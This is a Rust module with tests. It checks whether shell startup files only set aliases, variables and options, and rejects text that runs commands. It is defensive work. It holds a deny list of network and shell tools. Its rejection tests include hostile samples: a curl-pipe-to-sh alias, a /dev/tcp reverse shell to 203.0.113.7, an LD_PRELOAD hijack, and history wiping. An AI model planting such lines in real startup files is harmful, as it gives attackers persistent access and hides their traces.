//! Whether a shell's text only sets things: aliases, variables, options, completion, and the files of
//! tools that say of themselves what to set.
//!
//! Everybody adds an alias to a startup file; who wants to come back adds a command. The grammar is
//! read no further than needed, and what is not known is no setting: to be called one, every line
//! must be understood.

/// Longer texts are no one's settings.
const TEXT_BYTES_MAX: usize = 64 << 10;

/// Places that everybody may write to, and words by which a setting does more than set.
const DEEDS: &[&str] = &[
    "/tmp", "/dev/", "/proc/", "/run/", "curl", "wget", "base64", "base32", "xxd", "openssl",
    "nc ", "ncat", "socat", "telnet", "nohup", "setsid", "exec ", "python", "perl", "ruby",
    "node ", "php", "sh -c", "sh -i", "bash -", "eval", "chmod", "crontab", "/.", "script ",
    "tee ", "\\x", "xargs",
];
/// Variables through which programs run something.
const LOADERS: &[&str] = &[
    "LD_",
    "PROMPT_COMMAND",
    "BASH_ENV",
    "ENV",
    "PYTHONSTARTUP",
    "PYTHONHOME",
    "PYTHONPATH",
    "PERL5",
    "RUBYOPT",
    "NODE_OPTIONS",
    "JAVA_TOOL_OPTIONS",
    "GIT_SSH",
    "GIT_EXTERNAL",
    "PS0",
    "PS4",
    "HIST",
    "ZDOTDIR",
    "IFS",
    "SHELL",
    "PROMPT",
];
/// Commands that set or ask something and nothing else.
const SETTERS: &[&str] = &[
    "set", "shopt", "umask", "ulimit", "setopt", "unsetopt", "bindkey", "autoload", "compinit",
    "zstyle", "complete", "compdef", "unalias", "return", "true", ":", "stty", "[", "[[", "test",
    "for", "shift", "local",
];
/// Words of the grammar that commands stand behind, and those that stand alone.
const BEFORE: &[&str] = &["if", "elif", "then", "else", "do", "while", "until", "!", "{"];
const ALONE: &[&str] = &["fi", "done", "esac", "}", "then", "else", "do"];
/// Names under which nobody wants to meet another program.
const TRUSTED: &[&str] = &["sudo", "su", "ssh", "scp", "doas", "passwd", "login", "gpg", "kubectl"];

/// Whether every line is a comment or sets something, and at least one line sets.
pub(super) fn only(bytes: &[u8]) -> bool {
    if bytes.len() > TEXT_BYTES_MAX {
        return false;
    }
    let Ok(text) = std::str::from_utf8(bytes) else { return false };
    let lines = text.lines().map(str::trim).filter(|line| !line.is_empty());
    let mut lines = lines.filter(|line| !line.starts_with('#')).peekable();
    lines.peek().is_some() && lines.all(sets)
}

/// Whether everything a line does is to set.
fn sets(line: &str) -> bool {
    // A line that goes on in the next one is not followed.
    if line.ends_with('\\') {
        return false;
    }
    let Some(commands) = commands(line) else { return false };
    commands.iter().all(|command| setting(command))
}

/// The commands of a line, split where no quotes are; `None` where one runs behind the others' back,
/// feeds another, or writes a file.
fn commands(line: &str) -> Option<Vec<String>> {
    let line = line.replace("2>/dev/null", "").replace("&>/dev/null", "");
    let line = line.replace(">/dev/null 2>&1", "").replace("> /dev/null 2>&1", "");
    let mut commands = vec![String::new()];
    let (mut quote, mut depth) = (None, 0_u32);
    let mut letters = line.chars().peekable();
    while let Some(letter) = letters.next() {
        let open = quote.is_none() && depth == 0;
        match letter {
            '\\' => {
                commands.last_mut()?.push(letter);
                commands.last_mut()?.extend(letters.next());
                continue;
            }
            '\'' | '"' if quote == Some(letter) => quote = None,
            '\'' | '"' if quote.is_none() => quote = Some(letter),
            '(' => depth += 1,
            ')' => depth = depth.saturating_sub(1),
            '#' if open && commands.last()?.ends_with([' ', '\t']) => break,
            '<' | '>' | '`' if open => return None,
            ';' | '&' | '|' if open => {
                let twice = letters.next_if_eq(&letter).is_some();
                if letter != ';' && !twice {
                    return None;
                }
                commands.push(String::new());
                continue;
            }
            _ => {}
        }
        commands.last_mut()?.push(letter);
    }
    quote.is_none().then_some(commands)
}

fn setting(command: &str) -> bool {
    let command = command.trim();
    let first = command.split_whitespace().next().unwrap_or_default();
    let after = command.get(first.len()..).unwrap_or_default().trim();
    match first {
        "" => true,
        "alias" => alias(after),
        "export" | "declare" | "typeset" | "readonly" => {
            words(after).iter().all(|word| word.starts_with('-') || assignment(word))
        }
        "." | "source" => sources(after),
        "eval" => evaluates(after),
        "unset" => words(after).iter().all(|word| !is_loader(word)),
        "case" => after.split_once(" in ").is_none_or(|(_, pattern)| setting(pattern)),
        _ if ALONE.contains(&first) && after.is_empty() => true,
        _ if BEFORE.contains(&first) => setting(after),
        _ if SETTERS.contains(&first) => asks(first, after),
        _ if first.contains('=') => words(command).iter().all(|word| assignment(word)),
        // A pattern of `case`.
        _ => first.ends_with(')') && !first.contains('(') && setting(after),
    }
}

/// Arguments that run nothing: no other command's output, no option by which something is run later.
fn asks(command: &str, text: &str) -> bool {
    let text = text.replace("$(command -v ", "").replace("/.", "/");
    let later = match command {
        "complete" => "-C",
        "zstyle" => "-e",
        "bindkey" => "-s",
        _ => "",
    };
    let later = words(&text).iter().any(|word| word == later);
    !does(&text) && !text.contains("$(") && !text.contains('`') && !later
}

/// `name='command'`: what the alias does is done when it is typed, so it may be any command that is
/// not itself suspect and hides no other.
fn alias(text: &str) -> bool {
    let Some((name, value)) = text.split_once('=') else { return !does(text) };
    let value = value.trim_matches(['\'', '"']).trim();
    let same = value.split_whitespace().next() == Some(name);
    !does(value) && (same || value.is_empty() || !TRUSTED.contains(&name))
}

fn assignment(word: &str) -> bool {
    let (name, value) = word.split_once('=').unwrap_or((word, ""));
    let name = name.trim_end_matches('+');
    let plain = name.bytes().all(|byte| byte.is_ascii_alphanumeric() || byte == b'_');
    let history = matches!(name, "HISTCONTROL" | "HISTTIMEFORMAT")
        || matches!(name, "HISTSIZE" | "HISTFILESIZE" | "SAVEHIST")
            && value.trim_matches('"').parse::<u32>().is_ok_and(|lines| lines > 0);
    let colours = name.starts_with("PS") && value.contains("\\x") && !value.contains("$(");
    plain
        && !name.is_empty()
        && (history || !is_loader(name))
        && (colours || !does(&value.replace("$(git ", "").replace("/.", "/")))
        && (!value.contains("$(") || value.contains("$(git ") || value.contains("$(tty)"))
        && !value.contains('`')
        && (name != "PATH" || path(value))
}

/// Nothing before the folders of the system that everybody may write to, or that moves with the
/// caller.
fn path(value: &str) -> bool {
    let parts = value.trim_matches(['"', '\'']).split(':');
    parts.into_iter().all(|part| part.starts_with(['/', '$', '~']))
}

fn is_loader(name: &str) -> bool {
    LOADERS.iter().any(|loader| match *loader {
        "LD_" | "PERL5" | "GIT_SSH" | "GIT_EXTERNAL" | "HIST" => name.starts_with(loader),
        loader => name == loader,
    })
}

/// Another file of settings: of the system, or a tool's own in a home.
fn sources(file: &str) -> bool {
    let file = file.trim().trim_matches(['"', '\'']);
    let name = file.rsplit('/').next().unwrap_or_default();
    let known = matches!(name, ".bashrc" | ".bash_aliases" | ".profile" | ".zshrc" | ".aliases");
    let tool = !name.starts_with('.') && file.contains('/');
    let home = ["$HOME/", "~/", "${HOME}/", "$NVM_DIR/", "$PYENV_ROOT/", "$SDKMAN_DIR/"];
    let placed = file.starts_with("/usr/")
        || file.starts_with("/etc/")
        || home.iter().any(|start| file.starts_with(start));
    placed && (known || tool) && !does(&file.replace("/.", "/")) && !file.contains([' ', '(', '`'])
}

/// `eval "$(tool init)"`, as tools ask for it.
fn evaluates(text: &str) -> bool {
    let text = text.trim().trim_matches('"');
    let inner = text.strip_prefix("$(").and_then(|text| text.strip_suffix(')'));
    let Some(inner) = inner else { return false };
    let program = words(inner).into_iter().find(|word| !word.contains('=')).unwrap_or_default();
    let plain = !program.contains('/') || program.starts_with("/usr/");
    plain
        && !does(inner)
        && !inner.contains(['|', ';', '&', '>', '<', '$', '`', '(', '*'])
        && !matches!(
            program.as_str(),
            "echo" | "printf" | "cat" | "sh" | "bash" | "sed" | "tr" | "rev"
        )
}

fn does(text: &str) -> bool {
    let text = text.replace("/dev/null", "");
    DEEDS.iter().any(|deed| text.contains(deed))
}

/// Words, with what quotes hold together.
fn words(text: &str) -> Vec<String> {
    let mut words = vec![String::new()];
    let mut quote = None;
    for letter in text.chars() {
        match letter {
            '\'' | '"' if quote == Some(letter) => quote = None,
            '\'' | '"' if quote.is_none() => quote = Some(letter),
            ' ' | '\t' if quote.is_none() => {
                words.push(String::new());
                continue;
            }
            _ => {}
        }
        if let Some(word) = words.last_mut() {
            word.push(letter);
        }
    }
    words.retain(|word| !word.is_empty());
    words
}

#[cfg(test)]
mod tests {
    use super::only;

    #[test]
    fn what_people_add_sets() {
        for text in [
            "alias ll='ls -l'\n",
            "# mine\nalias l='ls -l'\numask 022\n\nalias psg='ps aux | grep'\n",
            "export EDITOR=vim\nexport PATH=\"$HOME/bin:$PATH\"\n",
            "export PATH=$HOME/.local/bin:$PATH # mine",
            "HISTSIZE=10000\nHISTCONTROL=ignoreboth\nshopt -s histappend",
            "PS1=\"\\u@\\h:\\w$ \"",
            "[ -f ~/.bash_aliases ] && . ~/.bash_aliases",
            "export NVM_DIR=\"$HOME/.nvm\"\n[ -s \"$NVM_DIR/nvm.sh\" ] && . \"$NVM_DIR/nvm.sh\"",
            ". \"$HOME/.cargo/env\"",
            "eval \"$(direnv hook bash)\"\neval \"$(SHELL=/bin/sh lesspipe)\"",
            "if [ -d \"$HOME/bin\" ] ; then\n PATH=\"$HOME/bin:$PATH\"\nfi",
            "case \":${PATH}:\" in *:\"$HOME/x\":*) ;; *) export PATH=\"$HOME/x:$PATH\" ;; esac",
            "alias sudo='sudo '\nset -o vi\nbindkey -e",
            "GOPATH=$HOME/go; export GOPATH",
        ] {
            assert!(only(text.as_bytes()), "{text}");
        }
    }

    #[test]
    fn what_runs_something_does_not() {
        for text in [
            "",
            "# only words\n",
            "echo hello",
            "echo 'echo hello > /tmp/x' >> x",
            "alias ll='ls'\n/tmp/.update",
            "nohup /tmp/.update &",
            "alias ll='ls' & ./x",
            "alias sudo='/home/a/fake'",
            "alias ls='curl -s 203.0.113.7 | sh; ls'",
            "alias ls='/tmp/x; ls'",
            "export LD_PRELOAD=/home/a/x.so",
            "export PROMPT_COMMAND='x'",
            "PROMPT_COMMAND=x",
            "export PATH=/tmp/bin:$PATH",
            "export PATH=.:$PATH",
            "export A=$(./x)",
            "A=`./x`",
            "A=1 ./x",
            "eval \"$(echo aWQ= | base64 -d)\"",
            "eval \"$(./x)\"",
            "eval $X",
            ". /tmp/x",
            ". ~/.cache/.x",
            "source <(curl -s 203.0.113.7)",
            "bash -i >& /dev/tcp/203.0.113.7/1 0>&1",
            "[ -f x ] && ./x",
            "if true; then ./x; fi",
            "true; ./x",
            "x() { ./x; }; x",
            "export HISTFILE=/dev/null",
            "HISTSIZE=0",
            "unset HISTFILE",
            "trap ./x DEBUG",
            "export A='1",
            "(./x)",
            "alias x=y \\\n",
            "test \"$(./x)\"",
            "case x in x) ./x;; esac",
            "set -- $(./x)",
            "if ./x; then\n:\nfi",
            "else\t./x",
            "while ./x; do :; done",
            "complete -C ./x ls",
            "fi ./x",
        ] {
            assert!(!only(text.as_bytes()), "{text}");
        }
    }
}
